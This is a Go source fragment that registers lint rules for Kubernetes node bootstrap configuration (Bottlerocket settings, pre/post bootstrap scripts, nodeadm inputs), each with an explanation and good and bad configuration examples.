		Good:      "# Write the settings TOML yourself (e.g. settings.kernel.sysctl or a bootstrap container) in user_data.\n" + nodeClass(onCustom, "[settings.kubernetes]\ncluster-name = \"my-cluster\"\n[settings.kubernetes.node-taints]\n\"karpenter.sh/unregistered\" = [\":NoExecute\"]\n[settings.kernel.sysctl]\n\"vm.max_map_count\" = \"262144\"\n"),
	})
	RuleScriptUnsafe = rules.Register(rules.Rule{
		ID: "bootstrap-script-unsafe", Severity: rules.Error, Category: category,
		Title:     "pre/post bootstrap script changes the bootstrap call",
		Behaviour: "The scripts are placed before and after the bootstrap.sh call in one bash script; a trailing backslash, unterminated here-document or `exit` would swallow, alter or skip the call.",
		Source:    "this provider's bootstrap renderer (the rendered script is parsed back and compared)",
		Bad:       bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster"`, `pre_bootstrap_script = "yum install -y jq \\"`),
		Good:      bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster"`, `pre_bootstrap_script = "yum install -y jq"`),
	})
)

var RuleInputMissing = rules.Register(rules.Rule{
	ID: "bootstrap-input-missing", Severity: rules.Error, Category: category,
	Title:     "cluster fact the bootstrap format requires is missing",
	Behaviour: "Without the cluster name the node cannot build its kubeconfig; nodeadm rejects a NodeConfig without name, apiServerEndpoint or certificateAuthority (`nodeadm init` fails validation) and Bottlerocket without cluster-name, api-server and cluster-certificate never joins.",
	Source:    "amazon-eks-ami nodeadm api validation; Bottlerocket settings.kubernetes",
	Bad:       bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, eksCIDR),
	Good:      bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, eksEndpoint, eksCA, eksCIDR),
})

// RuleUnregisteredMissing is unregistered-taint-missing, which the NodePool
// cross-check reports again with the pool's consequence.
var RuleUnregisteredMissing = ruleUnregisteredMissing
